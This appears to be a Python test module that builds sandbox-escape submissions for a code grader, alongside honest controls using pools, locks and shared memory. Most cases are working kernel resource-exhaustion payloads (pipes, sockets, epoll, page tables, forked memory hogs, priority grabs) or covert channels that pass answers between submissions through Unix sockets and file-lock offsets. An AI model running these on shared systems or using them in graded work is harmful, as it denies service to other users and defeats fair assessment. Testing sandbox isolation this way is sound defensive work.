"""What boxes share: the kernel's own tables, files that all may read, and memory that no process seems to hold.

Beside them honest work that uses much of the same: pools, locks, shared memory.
"""

from tools.attacks.attack import FULL, Desk, attack
from tools.attacks.cases.exhaustion import HOLD, exhaust, in_children
from tools.attacks.handing import RIGHT_IOU, RIGHT_NMS, hand_in

ORACLE = "an oracle next door"
SYSTEM = "limits of the whole system"
SPARING = "honest use of much"
PLACES = ("\\0oracle", "/exam/oracle", "/tmp/oracle", "/dev/shm/oracle", "/var/tmp/oracle", "/run/oracle")


@attack(family=ORACLE, deserved=FULL, boxed=True)
def oracle_that_answers(desk: Desk) -> None:
    """Right work that serves it to other submissions: at sockets with and without a file, and while it waits."""
    serve = f"""
import os, pickle, socket, threading, time

def serve(address):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(address)
    listener.listen()
    while True:
        channel = listener.accept()[0]
        name, inputs = pickle.loads(channel.recv(2**20))
        channel.sendall(pickle.dumps(globals()[name](*inputs)))

def try_to_serve(address):
    try:
        serve(address)
    except OSError as error:
        print(address, error)

for address in {PLACES!r}:
    threading.Thread(target=try_to_serve, args=(address,), daemon=True).start()
time.sleep(10)
"""
    hand_in(desk, "", RIGHT_IOU, RIGHT_NMS, last=serve)


@attack(family=ORACLE, deserved=0, boxed=True)
def oracle_that_is_asked(desk: Desk) -> None:
    """Both functions send their inputs to whoever answers at any of these sockets, and hand on the answer."""
    ask = f"""
import pickle, socket

def ask(name, *inputs):
    for address in {PLACES!r}:
        try:
            channel = socket.socket(socket.AF_UNIX)
            channel.settimeout(2)
            channel.connect(address)
            channel.sendall(pickle.dumps((name, inputs)))
            return pickle.loads(channel.recv(2**20))
        except OSError:
            continue
    return torch.tensor([-1])
"""
    iou = 'def box_iou(boxes1, boxes2):\n    return ask("box_iou", boxes1, boxes2)'
    nms = 'def nms(boxes, scores, threshold):\n    return ask("nms", boxes, scores, threshold)'
    hand_in(desk, ask, iou, nms)


@attack(family=ORACLE, deserved=FULL, boxed=True)
def locks_that_tell(desk: Desk) -> None:
    """Right work that writes its answers, 63 bits each, into locks on files that all submissions read."""
    tell = """
import fcntl, os, sys, time

places = [os.open(path, os.O_RDONLY) for path in (os.path.realpath(sys.executable), torch.__file__, os.__file__)]
for number in range(1000):
    for place in places:
        try:
            fcntl.lockf(place, fcntl.LOCK_SH, 1, 2**40 + 1_000_003 * number)
            fcntl.flock(place, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError as error:
            print(error)
time.sleep(10)
"""
    hand_in(desk, "", RIGHT_IOU, RIGHT_NMS, last=tell)


@attack(family=ORACLE, deserved=0, boxed=True)
def locks_that_are_read(desk: Desk) -> None:
    """Answers are the numbers in others' locks on the files that all read, and in what they open meanwhile."""
    read = """
import ctypes, fcntl, os, struct, sys

def told():
    found = []
    for path in (os.path.realpath(sys.executable), torch.__file__, os.__file__):
        place = os.open(path, os.O_RDONLY)
        lock = fcntl.fcntl(place, fcntl.F_GETLK, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0))
        found += [struct.unpack("hhqqi4x", lock)[2]]
        found += [ctypes.CDLL(None).inotify_init()]
        os.close(place)
    return torch.tensor(found)
"""
    hand_in(
        desk,
        read,
        "def box_iou(boxes1, boxes2):\n    return told()",
        "def nms(boxes, scores, threshold):\n    return told()",
    )


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def asynchronous_slots(desk: Desk) -> None:
    """All 65,536 slots that the machine has for asynchronous input and output, and all that watch files."""
    take = """
import ctypes

libc, got = ctypes.CDLL(None), [0, 0, 0]
for number in range(600):
    place = ctypes.c_ulong(0)
    got[0] += libc.syscall(206, 65_000 // (number + 1) + 1, ctypes.byref(place)) == 0
    got[1] += libc.inotify_init() >= 0
    got[2] += libc.fanotify_init(0x200, 0) >= 0
print("got", got)
"""
    exhaust(desk, take + HOLD)


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def the_machines_files_locked(desk: Desk) -> None:
    """Locks, leases and notices on Python, its packages and the course, held as long as may be."""
    lock = """
import fcntl, os, sys

held = []
for folder, _, names in os.walk(os.path.dirname(os.__file__)):
    for name in names[:20]:
        try:
            held.append(os.open(os.path.join(folder, name), os.O_RDONLY))
            fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.lockf(held[-1], fcntl.LOCK_SH | fcntl.LOCK_NB)
            fcntl.fcntl(held[-1], fcntl.F_SETLEASE, fcntl.F_RDLCK)
        except OSError:
            pass
print(len(held))
"""
    exhaust(desk, lock + HOLD + "for number in held:\n    os.close(number)")


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def a_million_locks(desk: Desk) -> None:
    """Locks on single bytes of an own file, which the kernel remembers one by one."""
    lock = """
import fcntl, time

file, end = open("many", "w"), time.monotonic() + 8
for number in range(10**6):
    fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * number)
    if time.monotonic() > end:
        break
print(number)
"""
    exhaust(desk, lock)


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def full_pipes(desk: Desk) -> None:
    """Pipes of a megabyte, all full, until the user may have no more: neighbours have pipes too."""
    fill = """
import fcntl, os, time

def fill():
    held = []
    try:
        while True:
            held.append(os.pipe())
            try:
                fcntl.fcntl(held[-1][1], 1031, 2**20)
            except OSError:
                pass
            os.set_blocking(held[-1][1], False)
            try:
                while os.write(held[-1][1], bytes(2**16)):
                    pass
            except BlockingIOError:
                pass
    except OSError:
        time.sleep(20)
"""
    exhaust(desk, fill + in_children(40) + HOLD)


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def descriptors_on_their_way(desk: Desk) -> None:
    """Descriptors sent and never received, of which a user may have as many as open files."""
    send = """
import os, socket

held, sent = [], 0
try:
    while sent < 100_000:
        held.append(socket.socketpair())
        for _ in range(100):
            held[-1][0].setblocking(False)
            socket.send_fds(held[-1][0], [b"a"], [0] * 250)
            sent += 250
except OSError as error:
    print(error)
print(sent)
"""
    exhaust(desk, send + HOLD + "for pair in held:\n    [end.close() for end in pair]")


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def watches_timers_and_signals(desk: Desk) -> None:
    """Each epoll watches each descriptor, timers without end, signals that wait for ever: the kernel keeps them all."""
    take = """
import ctypes, os, select, signal

watched = [os.eventfd(0) for _ in range(400)]
polls = [select.epoll() for _ in range(400)]
try:
    for poll in polls:
        for number in watched:
            poll.register(number)
except OSError as error:
    print(error)
libc = ctypes.CDLL(None)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
made = ctypes.c_void_p()
print(sum(libc.syscall(222, 1, None, ctypes.byref(made)) == 0 for _ in range(200_000)))
print(sum(libc.sigqueue(os.getpid(), int(signal.SIGRTMIN), None) == 0 for _ in range(200_000)))
"""
    exhaust(desk, take + HOLD + "for each in polls:\n    each.close()\nfor each in watched:\n    os.close(each)")


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def tables_of_pages(desk: Desk) -> None:
    """Pages that are only read, one in each two megabytes: they hold nothing, but the tables that lead to them do."""
    read = """
import mmap, os, time

def read(size):
    space = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    for place in range(0, size, 2**21):
        space[place]
    return space

for _ in range(100):
    try:
        if os.fork() == 0:
            held = []
            for size in [2**38, *[2**34] * 64, *[2**30] * 64]:
                try:
                    held.append(read(size))
                except OSError:
                    pass
            time.sleep(60)
    except OSError:
        break
"""
    exhaust(desk, read + HOLD * 4)


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def deaf_and_hungry(desk: Desk) -> None:
    """Whoever should read the next request fills memory instead, in many processes, and never reads it."""
    deaf = """
import os, socket, time

def deaf(self, *given):
    for _ in range(10):
        if os.fork() == 0:
            hoard = bytearray(2**30)
            hoard[::4096] = b"1" * len(hoard[::4096])
            time.sleep(60)
    time.sleep(60)

socket.socket.recv = deaf
"""
    exhaust(desk, deaf)


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def memory_behind_sockets(desk: Desk) -> None:
    """Full sockets without end, in one process after another: memory that only the kernel holds."""
    fill = """
import os, socket, time

def fill():
    held = []
    try:
        while True:
            held.append(socket.socketpair())
            for end in held[-1]:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
                try:
                    while end.send(bytes(2**16)):
                        pass
                except BlockingIOError:
                    pass
    except OSError:
        time.sleep(60)

for _ in range(100):
    if os.fork() == 0:
        fill()
        os._exit(0)
time.sleep(50)
"""
    exhaust(desk, fill)


@attack(family=SYSTEM, deserved=FULL, boxed=True)
def first_at_the_processor(desk: Desk) -> None:
    """Real-time and higher priorities, for processor and disk, for all processes that can be named."""
    first = """
import ctypes, os

libc = ctypes.CDLL(None)
for who in (0, 1, os.getppid()):
    for step in (lambda: os.sched_setscheduler(who, os.SCHED_FIFO, os.sched_param(99)),
                 lambda: os.sched_setscheduler(who, os.SCHED_RR, os.sched_param(1)),
                 lambda: os.setpriority(os.PRIO_PROCESS, who, -20), lambda: os.setpriority(os.PRIO_USER, 0, -20)):
        try:
            step()
            print("DONE")
        except OSError as error:
            print(error)
    print(libc.syscall(251, 1, who, 1 << 13))
"""
    exhaust(desk, first)


@attack(family=SPARING, deserved=FULL, boxed=True)
def pool_of_thirty_two(desk: Desk) -> None:
    """Right work that asks 32 processes in each call, as `Pool()` does on 32 cores."""
    iou = RIGHT_IOU.replace("box_iou", "_iou") + (
        "\nimport multiprocessing\n\ndef _row(pair):\n    return _iou(pair[0][None], pair[1])[0].tolist()\n"
        "\ndef box_iou(boxes1, boxes2):\n    if len(boxes1) < 4:\n        return _iou(boxes1, boxes2)\n"
        "    with multiprocessing.Pool(32) as pool:\n"
        "        rows = pool.map(_row, [(box, boxes2) for box in boxes1])\n"
        "    return torch.tensor(rows).reshape(len(boxes1), len(boxes2))"
    )
    nms = RIGHT_NMS.replace("box_iou", "_iou")
    hand_in(desk, "", iou, nms)


@attack(family=SPARING, deserved=FULL, boxed=True)
def loaders_locks_and_databases(desk: Desk) -> None:
    """Right work; its cells load data in two processes, lock files, keep a database, share tensors and run a loop."""
    use = """
import asyncio, fcntl, sqlite3, tempfile
from concurrent.futures import ProcessPoolExecutor
from torch.utils.data import DataLoader, TensorDataset

seen = sum(len(batch[0]) for batch in DataLoader(TensorDataset(torch.arange(40.0)), 4, num_workers=2))
with tempfile.NamedTemporaryFile() as file:
    fcntl.flock(file, fcntl.LOCK_EX)
with sqlite3.connect("results.db") as base:
    base.execute("create table t (x)")
    base.executemany("insert into t values (?)", [(x,) for x in range(100)])
with ProcessPoolExecutor(2) as pool:
    seen += sum(pool.map(abs, range(-3, 3)))
await asyncio.sleep(0.01)
factor = 1.0 if (seen, base.execute("select count(*) from t").fetchone()) == (49, (100,)) else 7.0
"""
    iou = RIGHT_IOU.replace("return shared /", "return factor * shared /")
    hand_in(desk, use, iou, RIGHT_NMS)
